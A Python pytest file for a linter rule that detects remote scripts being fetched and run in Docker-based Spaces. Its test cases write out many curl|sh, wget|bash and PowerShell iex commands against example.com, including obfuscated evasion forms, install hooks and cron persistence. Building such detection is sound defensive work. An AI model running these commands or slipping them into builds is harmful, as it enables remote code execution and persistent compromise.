"""A script from the network that runs unseen, however the command that fetches it, or the one that runs it, is put."""

from __future__ import annotations

import pytest
from hf_lint.pipeline.engine import check_space
from support import plan, space_of

URL = "https://example.com/i.sh"
DOCKER = "---\nsdk: docker\n---\n"
BASE = "FROM python:3.12\n"


def found(files: dict[str, str], *select: str) -> list[str]:
    report = check_space(space_of({"README.md": DOCKER, **files}), plan(*(select or ("remote-script",))))
    assert not report.errors
    return [finding.location.path for finding in report.findings]


@pytest.mark.parametrize(
    "lines",
    [
        f"HEALTHCHECK CMD curl -s {URL} | sh",
        f'HEALTHCHECK --interval=5s CMD ["sh", "-c", "wget -qO- {URL} | sh"]',
        f"RUN curl${{IFS}}-s${{IFS}}{URL}|sh",
        f"RUN curl$IFS$9{URL} | sh",
        f"RUN {{curl,-s,{URL}}} | bash",
        f"RUN bash < <(curl -s {URL})",
        f'RUN bash <<< "$(curl -s {URL})"',
        f"RUN curl -so x {URL}; bash < x",
        f"RUN curl -so /tmp/x {URL} && cat /tmp/x | sh",
        f'RUN curl -so x {URL} && sh -c "$(cat x)"',
        f"RUN curl -s {URL} | tee x >/dev/null; sh x",
        f"RUN C=$(which curl); $C -s {URL} | sh",
        f"RUN C=`command -v wget`; $C -qO- {URL} | sh",
        f"RUN $(command -v curl) {URL} | sh",
        f'RUN c="curl -s {URL} | sh"; eval $c',
        f"RUN get() {{ curl -fsSL $1; }}; get {URL} | sh",
        f'RUN get() {{ wget -qO- "$@"; }} && get {URL} | bash',
        f"RUN run() {{ sh; }}; curl {URL} | run",
        f"RUN function get {{ curl $1; }}; run() {{ bash -s; }}; get {URL} | run",
        f'RUN go() {{ sh -c "$1"; }}; go "$(curl {URL})"',
        f'RUN pwsh -Command "iwr {URL} | iex"',
        f'RUN pwsh -c "Invoke-Expression (Invoke-WebRequest {URL}).Content"',
        f'SHELL ["pwsh", "-Command"]\nRUN irm {URL} | iex',
        f"SHELL [\"powershell\"]\nRUN iex ((New-Object Net.WebClient).DownloadString('{URL}'))",
        f"RUN busybox wget -qO- {URL} | busybox ash",
        f'RUN /bin/busybox ash -c "$(/bin/busybox wget -qO- {URL})"',
        f'ARG S=sh\nRUN ["sh", "-c", "curl {URL} | $S"]',
        f'ENV C="curl -s {URL}"\nCMD ["sh", "-c", "$C | sh"]',
        f"ARG U={URL}\nADD $U /x\nRUN sh /x",
        f'RUN echo "* * * * * root curl {URL} | sh" >> /etc/crontab',
        f'RUN echo "0 4 * * * curl {URL} | sh" | crontab -',
    ],
)
def test_in_a_dockerfile(lines: str) -> None:
    assert found({"Dockerfile": f"{BASE}{lines}\n"}) == ["Dockerfile"]


@pytest.mark.parametrize(
    ("lines", "path", "text"),
    [
        ("RUN make setup", "Makefile", f"all:\n\techo\nsetup: tools\ntools:\n\t@curl -s {URL} | sh\n"),
        ("RUN make -C sub", "sub/Makefile", f"GET = curl -s\nall:\n\t$(GET) {URL} | sh\n"),
        ('CMD ["make", "run"]', "Makefile", f"run:\n\tcurl {URL} \\\n\t  | sh\n"),
        ("RUN npm install", "package.json", f'{{"scripts": {{"postinstall": "curl {URL} | sh"}}}}'),
        ("RUN npm ci", "package.json", f'{{"scripts": {{"prepare": "wget -qO- {URL} | sh"}}}}'),
        ("RUN yarn", "package.json", f'{{"scripts": {{"preinstall": "sh -c \\"$(curl {URL})\\""}}}}'),
        ("RUN npm run build", "package.json", f'{{"scripts": {{"prebuild": "curl {URL} | sh"}}}}'),
        ("CMD npm start", "package.json", f'{{"scripts": {{"start": "curl {URL} | node"}}}}'),
        ("ENV C=curl\nCMD sh start.sh", "start.sh", f"$C {URL} | sh\n"),
        ("RUN crontab cron.txt", "crontab", f"*/5 * * * * curl {URL} | sh\n"),
        ("CMD cron -f", "cron.d/job", f"SHELL=/bin/sh\n@daily root curl {URL} | sh\n"),
        ("CMD cron -f", "jobs.cron", f"# every hour\n0 * * * * wget -O- {URL} | bash\n"),
    ],
)
def test_in_a_file_that_the_build_or_the_start_reads(lines: str, path: str, text: str) -> None:
    assert found({"Dockerfile": f"{BASE}COPY . .\n{lines}\n", path: text}) == [path]


@pytest.mark.parametrize(
    ("lines", "path", "text"),
    [
        ("HEALTHCHECK CMD curl -f http://localhost:7860/ | sh", "a", ""),
        ("HEALTHCHECK CMD curl -f https://example.com/ || exit 1", "a", ""),
        ("RUN make other", "Makefile", f"setup:\n\tcurl {URL} | sh\nother:\n\techo\n"),
        ("RUN npm ci --ignore-scripts", "package.json", f'{{"scripts": {{"postinstall": "curl {URL} | sh"}}}}'),
        ("RUN npm install", "package.json", f'{{"scripts": {{"deploy": "curl {URL} | sh"}}}}'),
        ("RUN npm install", "package.json", f'{{"config": {{"postinstall": "curl {URL} | sh"}}}}'),
        (f"RUN get() {{ curl -o $2 $1; }}; get {URL} x | sh", "a", ""),
        (f"RUN get() {{ curl {URL} | jq .; }}; get", "a", ""),
        (f"RUN curl -so x {URL} && echo ok | sha256sum -c && bash < x", "a", ""),
        (f'RUN echo "see curl {URL} | sh" >> /notes.txt', "a", ""),
        (f"RUN pwsh -c \"iwr {URL} -OutFile x; echo 'iex'\"", "a", ""),
        ("CMD cron -f", "cron.d/job", f"# * * * * * root curl {URL} | sh\n"),
    ],
)
def test_what_runs_nothing_unseen(lines: str, path: str, text: str) -> None:
    assert found({"Dockerfile": f"{BASE}COPY . .\n{lines}\n", path: text}) == []


def test_make_that_python_starts() -> None:
    files = {"Dockerfile": f"{BASE}COPY . .\nCMD python app.py\n", "Makefile": f"go:\n\tcurl {URL} | sh\n"}
    assert found({**files, "app.py": "import subprocess\nsubprocess.run(['make', 'go'])\n"}) == ["Makefile"]
